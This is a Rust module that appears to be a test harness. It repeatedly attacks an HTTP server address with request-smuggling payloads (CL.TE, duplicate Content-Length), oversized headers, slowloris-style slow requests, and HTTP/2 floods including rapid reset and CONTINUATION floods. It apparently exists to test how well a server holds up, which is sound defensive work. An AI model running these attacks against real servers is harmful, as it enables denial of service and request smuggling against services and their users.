//! Clients that mean harm, over bare sockets, for as long as they are let.
//!
//! It must not care how they are answered: what matters is what becomes of everybody else, which is for others to measure.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering::Relaxed};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

/// How long one connection of an attacker may last.
const PATIENCE: Duration = Duration::from_secs(10);

/// How long an attacker rests between two connections.
const REST: Duration = Duration::from_millis(20);

/// Requests sent at once by a client that reads none of the answers.
const UNREAD_REQUESTS: usize = 200;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// GET http://a/ in HPACK's static table, and the authority written out.
const GET: [u8; 6] = [0x82, 0x86, 0x84, 0x01, 1, b'a'];

/// Attackers at work, until it is dropped.
#[derive(Debug)]
pub struct Attackers {
    counts: Vec<(&'static str, Arc<AtomicU64>)>,
    _tasks: JoinSet<()>,
}

/// A way to attack.
struct Attack {
    /// What it is, for people.
    name: &'static str,
    /// What is sent first.
    first: Vec<u8>,
    /// What is sent again and again after it; nothing where one message is all.
    again: Vec<u8>,
    /// How long the attacker rests before it sends more.
    rest: Duration,
    reads: Reads,
}

/// What an attacker does about answers.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Reads {
    All,
    Nothing,
}

/// Attacks `address` in every way at once; a connection that ends is followed by another.
#[must_use]
pub fn begin(address: SocketAddr) -> Attackers {
    let mut tasks = JoinSet::new();
    let mut counts = Vec::new();
    for attack in attacks() {
        let count = Arc::new(AtomicU64::new(0));
        counts.push((attack.name, Arc::clone(&count)));
        tasks.spawn(async move {
            loop {
                // What the other side makes of it is its affair.
                let _ = tokio::time::timeout(PATIENCE, attack.carry_out(address, &count)).await;
                tokio::time::sleep(REST).await;
            }
        });
    }
    Attackers { counts, _tasks: tasks }
}

impl Attackers {
    /// Connections so far, by what they were for.
    #[must_use]
    pub fn counts(&self) -> BTreeMap<&'static str, u64> {
        let mut counts = BTreeMap::new();
        for (name, count) in &self.counts {
            *counts.entry(*name).or_default() += count.load(Relaxed);
        }
        counts
    }
}

impl Attack {
    fn once(name: &'static str, first: impl Into<Vec<u8>>) -> Self {
        Self { name, first: first.into(), again: Vec::new(), rest: Duration::ZERO, reads: Reads::All }
    }

    fn flood(name: &'static str, first: &[u8], again: Vec<u8>) -> Self {
        Self { again, ..Self::once(name, [PREFACE, first].concat()) }
    }

    fn slow(name: &'static str, first: &[u8], again: &[u8]) -> Self {
        Self { again: again.to_vec(), rest: Duration::from_millis(200), ..Self::once(name, first) }
    }

    fn unread(self) -> Self {
        Self { reads: Reads::Nothing, ..self }
    }

    async fn carry_out(&self, address: SocketAddr, count: &AtomicU64) -> std::io::Result<()> {
        let (mut reading, mut writing) = TcpStream::connect(address).await?.into_split();
        count.fetch_add(1, Relaxed);
        let mut buffer = vec![0; 16 << 10];
        let sending = async {
            writing.write_all(&self.first).await?;
            while !self.again.is_empty() {
                writing.write_all(&self.again).await?;
                tokio::time::sleep(self.rest).await;
            }
            std::future::pending::<std::io::Result<()>>().await
        };
        let reading = async {
            if self.reads == Reads::Nothing {
                return std::future::pending().await;
            }
            while reading.read(&mut buffer).await? > 0 {}
            Ok(())
        };
        tokio::select! {
            ended = sending => ended,
            ended = reading => ended,
        }
    }
}

fn attacks() -> Vec<Attack> {
    ambiguous().into_iter().chain(oversized()).chain(slow()).chain(floods()).collect()
}

/// Requests that two parties could read differently, or that are none.
fn ambiguous() -> Vec<Attack> {
    vec![
        Attack::once(
            "CL.TE",
            post("content-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /x HTTP/1.1\r\n\r\n"),
        ),
        Attack::once("two lengths", post("content-length: 3\r\ncontent-length: 4\r\n\r\nabcd")),
        Attack::once("two codings", post("transfer-encoding: chunked, identity\r\n\r\n0\r\n\r\n")),
        Attack::once("a giant chunk size", post("transfer-encoding: chunked\r\n\r\nfffffffffffffffff\r\n")),
        Attack::once("a chunk size that is none", post("transfer-encoding: chunked\r\n\r\nzz\r\n")),
        Attack::once("no Host", "GET / HTTP/1.1\r\n\r\n"),
        Attack::once("NUL in a header", "GET / HTTP/1.1\r\nhost: a\r\nx: \0\r\n\r\n"),
        Attack::once("TLS garbage", "\x16\x03\x01\x02\0\x01\0 no TLS"),
    ]
}

/// More than anybody needs.
fn oversized() -> Vec<Attack> {
    let head = format!("GET / HTTP/1.1\r\nhost: a\r\nx: {}\r\n\r\n", "y".repeat(1 << 20));
    vec![
        Attack::once("a head of 1 MiB", head),
        Attack::once("10,000 headers", format!("GET / HTTP/1.1\r\nhost: a\r\n{}\r\n", "x: 1\r\n".repeat(10_000))),
        Attack::once("a target of 64 KiB", format!("GET /{} HTTP/1.1\r\nhost: a\r\n\r\n", "a".repeat(64 << 10))),
    ]
}

/// Clients that hold what they were given for as long as they can.
fn slow() -> Vec<Attack> {
    let unread = b"GET / HTTP/1.1\r\nhost: a\r\n\r\n".repeat(UNREAD_REQUESTS);
    let streams = (0..UNREAD_REQUESTS as u32).map(|number| frame(1, 5, 2 * number + 1, &GET)).collect::<Vec<_>>();
    // A window of nothing: every answer's body has to wait.
    let no_window = frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]);
    vec![
        Attack::once("silence", ""),
        Attack::slow("a slow head", b"GET / HTTP/1.1\r\nhost: a\r\nx: ", b"y"),
        Attack::slow("a slow body", post("content-length: 1000000\r\n\r\n").as_bytes(), b"z"),
        Attack::once("unread answers", unread).unread(),
        Attack::once("streams without a window", [PREFACE.to_vec(), no_window, streams.concat()].concat()),
    ]
}

/// HTTP/2 frames that ask for nothing, as fast as they are taken.
fn floods() -> Vec<Attack> {
    let resets = (0..500_u32).flat_map(|number| {
        let stream = 2 * number + 1;
        [frame(1, 5, stream, &GET), frame(3, 0, stream, &[0, 0, 0, 8])].concat()
    });
    let continuation = frame(9, 0, 1, &[0, 1, b'x', 1, b'y']).repeat(500);
    vec![
        Attack::flood("PING flood", &[], frame(6, 0, 0, &[0; 8]).repeat(500)),
        Attack::flood("SETTINGS flood", &[], frame(4, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(500)),
        Attack::flood("PRIORITY flood", &[], frame(2, 0, 1, &[0, 0, 0, 3, 1]).repeat(500)),
        Attack::flood("WINDOW_UPDATE flood", &[], frame(8, 0, 0, &[0, 0, 0, 1]).repeat(500)),
        Attack::flood("CONTINUATION flood", &frame(1, 1, 1, &GET), continuation),
        Attack::flood("empty DATA flood", &frame(1, 4, 1, &GET), frame(0, 0, 1, &[]).repeat(500)),
        Attack::once("rapid reset", [PREFACE.to_vec(), resets.collect()].concat()),
    ]
}

fn post(rest: &str) -> String {
    format!("POST / HTTP/1.1\r\nhost: a\r\n{rest}")
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut bytes = vec![0, 0, payload.len() as u8, kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}
